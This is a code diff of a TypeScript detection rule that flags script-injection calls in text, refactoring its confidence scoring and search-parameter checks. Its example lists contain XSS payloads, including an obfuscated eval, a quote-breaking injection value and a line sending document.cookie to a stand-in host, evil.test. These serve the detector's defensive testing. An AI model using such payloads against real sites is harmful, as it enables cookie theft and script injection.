@@ -10,11 +10,8 @@ import {
 } from '../../grammars/script/script.ts';
 import { mark, type ScriptEvidence } from '../../grammars/script/script-evidence.ts';
 import { mayHoldScript } from '../../grammars/script/script-hint.ts';
-import {
-  type ScriptPieces,
-  scriptPieces,
-  strongestScript,
-} from '../../grammars/script/script-pieces.ts';
+import { scriptPieces, strongestScript } from '../../grammars/script/script-pieces.ts';
+import { isScriptInProse } from '../../grammars/script/script-prose.ts';
 import { scriptWords } from '../../knowledge/script-words.ts';
 import { confidence } from '../../placement/confidence.ts';
 import type { Subject } from '../../placement/subject.ts';
@@ -36,6 +33,7 @@ export const scriptCall: ValueRule = {
     'alert(document.domain)',
     "document?.write?.('<h1>a</h1>')",
     'x=1;confirm`1`',
+    "x';a=alert(1)+does+not+show//",
     "eval(atob('YWxlcnQoMSk='))",
     "[].constructor.constructor('alert(1)')()",
     "location='//evil.test/?'+document.cookie",
@@ -65,6 +63,7 @@ export const scriptCall: ValueRule = {
     'Alert(3) - disk full',
     'Alert(1): the backup failed',
     'https://example.com/search?q=alert(1)+does+not+show&page=2',
+    '?page=2&q=alert(1)+does+not+show',
     "if (confirm('Delete this item?')) { remove(item) }",
     'name = input(prompt("Name? "))',
     'el.onclick = function() { alert(this.id) }',
@@ -85,7 +84,7 @@ function judgeScriptCall(subject: Subject): Match | undefined {
     isAddress(subject.text, start) ||
     isSearch(subject, start, endOf(tokens, evidence.last - 1)) ||
     isCapitalised(tokens, evidence);
-  return matchOf(tokens, evidence, isShown ? confidence.hint : scoreOf(pieces, evidence));
+  return matchOf(tokens, evidence, isShown ? confidence.hint : scoreOf(subject, evidence));
 }
 
 /** `https://example.com/?q=alert(1)`: to a script that is a label and a comment, up to a quote. */
@@ -93,13 +92,17 @@ function isAddress(text: string, start: number): boolean {
   return start < addressMax && address.test(text.slice(0, start));
 }
 
-/** `?q=alert(1)+does+not+show`: the words of a search behind the call, in a parameter. */
+/**
+ * `?q=alert(1)+does+not+show`: the words of a search behind the call, in a parameter. Where anything
+ * else stands in front, the sum is an expression, and the call runs before an unknown name ends it.
+ */
 function isSearch({ text, decoded }: Subject, start: number, end: number): boolean {
   const isParameter =
-    decoded.at(-1)?.startsWith('form:') === true || text.charCodeAt(start - 1) === mark.equals;
+    decoded.at(-1)?.startsWith('form:') === true || parameters.test(text.slice(0, start));
   return isParameter && searchWords.test(text.slice(end, end + 80));
 }
 
+const parameters = /^\?(?:[\w.-]{1,40}=[\w.%+-]{0,200}&){0,20}[\w.-]{1,40}=$/;
 const searchWords = /^(?:(?:\+|%20)[A-Za-z]{2,20}){2,8}(?:$|[-+&#.?%])/;
 const addressMax = 4_000;
 const address = /^https?:\/\/[^\s'"`<>\u2028\u2029]*$/i;
@@ -107,15 +110,16 @@ const address = /^https?:\/\/[^\s'"`<>\u2028\u2029]*$/i;
 /** Some character that a call or an assignment needs. */
 const callClasses = charClass.paren | charClass.backtick | charClass.equals;
 
-function scoreOf(pieces: ScriptPieces, evidence: ScriptEvidence): number {
-  const prose = pieces.isProse;
-  if (evidence.strength >= 3 && isTalkedAbout(pieces.tokens, evidence)) return confidence.hint;
+function scoreOf(subject: Subject, evidence: ScriptEvidence): number {
+  const { tokens } = subject.tokens(scriptPieces);
+  const prose = isScriptInProse(subject);
+  if (evidence.strength >= 3 && isTalkedAbout(tokens, evidence)) return confidence.hint;
   if (evidence.strength === 4) return prose ? confidence.strong : confidence.certain;
   if (evidence.strength === 3) return prose ? confidence.hint : confidence.strong;
-  if (evidence.strength === 2 && isLoneAlert(pieces.tokens, evidence)) return confidence.likely;
-  if (evidence.strength === 2 && isBracketed(pieces.tokens, evidence)) return confidence.likely;
+  if (evidence.strength === 2 && isLoneAlert(tokens, evidence)) return confidence.likely;
+  if (evidence.strength === 2 && isBracketed(tokens, evidence)) return confidence.likely;
   if (prose) return confidence.trace;
-  return isWholeText(pieces.tokens, evidence) ? confidence.hint : confidence.trace;
+  return isWholeText(tokens, evidence) ? confidence.hint : confidence.trace;
 }
 
 /** The call is named among words: `alert(1) meaning`, or a code span of Markdown in a sentence. */
